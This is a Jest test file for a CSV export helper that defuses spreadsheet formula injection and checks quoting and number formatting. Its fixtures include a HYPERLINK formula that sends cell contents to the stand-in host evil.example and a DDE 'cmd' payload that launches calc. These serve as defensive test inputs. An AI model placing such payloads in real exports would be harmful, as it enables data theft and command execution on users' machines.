import Decimal from 'decimal.js';
import Papa from 'papaparse';
import { csvCell, csvRow } from './csv-export';

describe('csvCell', () => {
  it.each([
    // Formula starts (OWASP): a leading apostrophe, so spreadsheets show them as text.
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("http://evil.example?"&A1,"Klikk")', `"'=HYPERLINK(""http://evil.example?""&A1,""Klikk"")"`],
    ['+47 22 00 00 00', `"'+47 22 00 00 00"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['  =1+1', `"'  =1+1"`],
    ['\uFF1D1+1', `"'\uFF1D1+1"`],
    // Harmless text: quoted, quotes doubled, line breaks and separators kept inside the cell.
    ['Kopipapir A4', '"Kopipapir A4"'],
    ['Skjerm 24" Dell', '"Skjerm 24"" Dell"'],
    ['Penn, blå; rød', '"Penn, blå; rød"'],
    ['linje 1\nlinje 2', '"linje 1\nlinje 2"'],
    ['a=b', '"a=b"'],
    ["'=already", `"'=already"`],
    ['', '""'],
    // A plain number written as text is a value, not a formula.
    ['-45.90', '"-45.90"'],
    ['-12', '"-12"'],
  ])('writes the text %j as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes numbers bare, Decimal in full, and nothing for null', () => {
    expect(csvCell(-45.9)).toBe('-45.9');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(12n)).toBe('12');
    expect(csvCell(new Decimal('-1234.5000'))).toBe('-1234.5');
    expect(csvCell(new Decimal('1e-7'))).toBe('0.0000001');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(() => csvCell(Number.NaN)).toThrow(/cannot hold the number NaN/);
  });
});

describe('csvRow', () => {
  it('joins cells with the separator and ends the row with CRLF', () => {
    expect(csvRow(['KL-100', '=cmd', new Decimal('49.90'), null])).toBe(`"KL-100","'=cmd",49.9,\r\n`);
    expect(csvRow(['a;b', 1], ';')).toBe('"a;b";1\r\n');
  });

  it('keeps every value in its own cell, whatever it holds', () => {
    const hostile = ['x",=1+1,"y', 'a\r\n=2+2', '"', ';;', '-', '@'];
    // Read back by a CSV parser (the one catalogue uploads use), as a spreadsheet would.
    const rows = Papa.parse<string[]>(csvRow(hostile) + csvRow(['next']), { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
    expect(rows).toEqual([['x",=1+1,"y', 'a\r\n=2+2', '"', ';;', "'-", "'@"], ['next']]);
  });
});
